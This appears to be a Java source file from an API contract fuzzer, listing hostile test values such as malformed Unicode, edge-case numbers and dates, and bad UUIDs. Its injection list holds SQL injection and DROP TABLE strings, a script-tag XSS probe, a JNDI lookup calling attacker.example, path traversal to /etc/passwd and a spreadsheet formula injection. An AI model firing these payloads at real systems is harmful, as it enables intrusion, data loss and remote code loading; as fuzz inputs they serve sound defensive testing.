package vn.thidua.contract.fuzz;

import java.util.List;
import java.util.Random;
import java.util.UUID;

/**
 * The hostile values the fuzzer draws from: text that breaks naive handling of Unicode, injection attempts, and
 * numbers and dates at or past the edges of what the types can hold.
 */
final class FuzzValues {

    /** 100,000 characters: far past every maxLength of the contract, well under the body size limit. */
    static final String HUGE = "Đ".repeat(100_000);

    /** Strings that are valid JSON text but unusual for the server: each must be stored as sent or refused. */
    static final List<String> ODD_TEXT = List.of(
            "Nguye\u0302\u0303n Va\u0306n \u0110u\u031b\u0301c", // NFD Vietnamese: must be read as its NFC form
            "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a", // a pile of combining marks
            "\u0645\u0631\u062d\u0628\u0627 \u202eabc\u202c", // right-to-left text and a bidi override
            "\uD83C\uDFC6\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67 \uD83C\uDDFB\uD83C\uDDF3", // emoji, ZWJ, flag
            "nul\u0000byte", // PostgreSQL text cannot hold NUL
            "bell\u0007tab\tcr\rlf\nesc\u001b", // other control characters
            "\uFEFFbom-first", // a byte-order mark inside text
            "\u200B", // a zero-width space only: blank to the eye
            "\u00A0\u2003", // non-breaking and em spaces only
            "\uFFFF\uFFFE" // noncharacters
    );

    /**
     * Text that no document can print, each of which every string property, query value and path value must refuse
     * (with U+FFFF in it, the council's minutes once stored text their PDF could not print): noncharacters of the
     * first and the last plane, C0 and C1 controls. Lone surrogates are in {@link #LONE_SURROGATE_JSON}.
     */
    static final List<String> UNPRINTABLE_TEXT = List.of(
            "\uFFFE", "\uFFFF", "\uFDD0", "x\uFDEFy", "\uDBFF\uDFFF", "\uD83F\uDFFE",
            "nul\u0000", "bell\u0007", "esc\u001b", "next line\u0085", "\u009f");

    /** The same as JSON escapes, as a careful client writes them, with lone surrogates (which UTF-8 cannot carry). */
    static final List<String> UNPRINTABLE_JSON = List.of("\"\\uffff\"", "\"a\\ufffeb\"", "\"\\ufdd0\"",
            "\"\\ud800\"", "\"x\\udfffy\"", "\"\\u0001\"");

    /** Lone surrogates cannot be encoded as UTF-8; they can only arrive escaped inside JSON text. */
    static final List<String> LONE_SURROGATE_JSON = List.of("\"\\ud800\"", "\"x\\udfffy\"", "\"\\udc00\\ud800\"");

    static final List<String> INJECTION = List.of(
            "' OR '1'='1' --",
            "'; DROP TABLE person; --",
            "\" OR \"\"=\"",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
            "#{7*7}{{7*7}}",
            "../../../../etc/passwd",
            "%00%27%22",
            "\\u0000\\\\",
            "=cmd|' /C calc'!A0" // a spreadsheet formula: pledges and people end up in exported CSV and XLSX
    );

    /** JSON number literals past the edges of int and long, and forms Java parses differently. */
    static final List<String> ODD_NUMBERS = List.of("-1", "0", "2147483648", "-2147483649", "9223372036854775808",
            "-9223372036854775809", "1e400", "-1e400", "1.5", "1E2", "0.0000001", "123456789012345678901234567890");

    static final List<String> BAD_DATES = List.of("2022-02-30", "2022-13-01", "2023-02-29", "not-a-date",
            "99999-01-01", "22-02-2022", "2022/02/16", "20220216");

    /** Dates that parse but sit at the edges of the calendar: accepted or refused, never a fault. */
    static final List<String> EDGE_DATES = List.of("0000-01-01", "-0001-12-31", "+99999-01-01", "9999-12-31",
            "1900-01-01", "1899-12-31", "2024-02-29");

    static final List<String> BAD_DATE_TIMES = List.of("2022-02-30T00:00:00Z", "yesterday", "2022-01-01T25:00:00Z",
            "2022-01-01", "0000-01-01T00:00:00Z", "+99999-01-01T00:00:00Z", "1e400");

    static final List<String> BAD_UUIDS = List.of("not-a-uuid", "00000000-0000-0000-0000-00000000000g",
            "0190b3f4-7a1c-7c3e-9d2a", "0190b3f47a1c7c3e9d2a5b6c7d8e9f01X", "' OR 1=1 --", "");

    private FuzzValues() {
    }

    static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    /** An id that names nothing, drawn from the seed (not {@link UUID#randomUUID}, so that a seed replays a run). */
    static String uuid(Random random) {
        return new UUID(random.nextLong(), random.nextLong()).toString();
    }

    /** A code the server has certainly never seen, within the usual code pattern. */
    static String uniqueCode(Random random, String prefix) {
        return prefix + "-" + Long.toString(random.nextLong() & Long.MAX_VALUE, 36).toUpperCase();
    }
}
